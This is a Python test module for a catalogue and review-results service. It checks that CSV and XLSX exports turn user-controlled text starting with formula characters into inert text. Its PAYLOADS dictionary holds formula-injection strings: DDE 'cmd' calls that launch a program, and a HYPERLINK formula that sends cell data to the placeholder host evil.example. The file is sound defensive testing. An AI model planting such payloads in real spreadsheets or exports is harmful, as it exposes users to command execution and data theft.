"""Formula injection (CSV injection) through every spreadsheet export: text an applicant or an
enterprise controls, starting with a character a spreadsheet reads as the start of a formula,
must come out as inert text — in CSV prefixed with an apostrophe, in XLSX as a string cell with
Excel's quote prefix — in every column, both languages, and whichever export builds the cells
(the catalogue's CSV is written by PostgreSQL, the results' by Python)."""

from __future__ import annotations

import csv
import io
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy.ext.asyncio import AsyncSession

from api.models import AggregationRule, ApplicationStatus, Role
from api.spreadsheet import FORMULA_TRIGGERS
from tests.catalogue.helpers import make_entry
from tests.factories.identity import make_org, make_user
from tests.review.conftest import LoginAs, login_as  # noqa: F401 - the fixture
from tests.review.helpers import make_panel, make_review_batch

PAYLOADS = {
    "equals-dde": "=cmd|' /C calc'!A0",
    "equals-hyperlink": '=HYPERLINK("http://evil.example/?d="&A1,"详情")',
    "plus": "+SUM(1,1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    "quote-and-comma": '=1+1,"x",=2+2',
}
TEXT_COLUMNS = ("product_name_zh", "product_name_en", "model_spec", "summary_zh", "summary_en")


def _starts_a_formula(text: str) -> bool:
    return text.startswith(FORMULA_TRIGGERS)


def _csv(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM, for Excel
    return list(csv.reader(io.StringIO(body[3:].decode(), newline="")))


def _assert_csv_inert(rows: list[list[str]], payloads: set[str]) -> None:
    seen = set()
    for row in rows:
        for cell in row:
            assert not _starts_a_formula(cell), repr(cell)
            if cell.startswith("'") and cell[1:] in payloads:
                seen.add(cell[1:])
    assert seen == payloads, payloads - seen  # each payload is there, whole, behind its quote


def _assert_xlsx_inert(content: bytes, payloads: set[str]) -> None:
    # XML turns a carriage return into a line feed on reading, in Excel as in openpyxl.
    expected = {p.replace("\r", "\n") for p in payloads}
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    seen = set()
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", repr(cell.value)
            if isinstance(cell.value, str) and (
                _starts_a_formula(cell.value) or cell.value in expected
            ):
                assert cell.data_type == "s"
                assert cell.quotePrefix, repr(cell.value)
                seen.add(cell.value)
    assert expected <= seen, expected - seen


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
async def test_formula_injection_in_catalogue_exports(
    db: AsyncSession, client: httpx.AsyncClient, payload: str
) -> None:
    """Every free-text column of an entry (and its organisation's names) carries the payload."""
    org = await make_org(db, name_zh=payload)
    org.name_en = payload
    await make_entry(db, org=org, **dict.fromkeys(TEXT_COLUMNS, payload))
    await make_entry(db)  # an ordinary neighbour row

    for lang in ("zh", "en"):
        response = await client.get("/api/v1/catalogue/export.csv", params={"lang": lang})
        assert response.status_code == 200, response.text
        _assert_csv_inert(_csv(response.content), {payload})
    response = await client.get("/api/v1/catalogue/export.xlsx")
    assert response.status_code == 200, response.text
    _assert_xlsx_inert(response.content, {payload})


async def test_formula_injection_in_review_result_exports(
    db: AsyncSession,
    login_as: LoginAs,  # noqa: F811 - the fixture imported above
) -> None:
    """Product and organisation names and the decision's reason, one payload per application."""
    batch, _ = await make_review_batch(db, rule=AggregationRule.mean)
    for payload in PAYLOADS.values():
        await make_panel(
            db,
            batch,
            experts=1,
            org=await make_org(db, name_zh=payload),
            status=ApplicationStatus.shortlisted,
            product_name_zh=payload,
            decision_reason=payload,
        )
    admin = await login_as(await make_user(db, Role.admin))
    payloads = set(PAYLOADS.values())
    for lang in ("zh", "en"):
        params: dict[str, Any] = {"lang": lang}
        response = await admin.get(f"/api/v1/batches/{batch.id}/results.csv", params=params)
        assert response.status_code == 200, response.text
        _assert_csv_inert(_csv(response.content), payloads)
        response = await admin.get(f"/api/v1/batches/{batch.id}/results.xlsx", params=params)
        assert response.status_code == 200, response.text
        _assert_xlsx_inert(response.content, payloads)
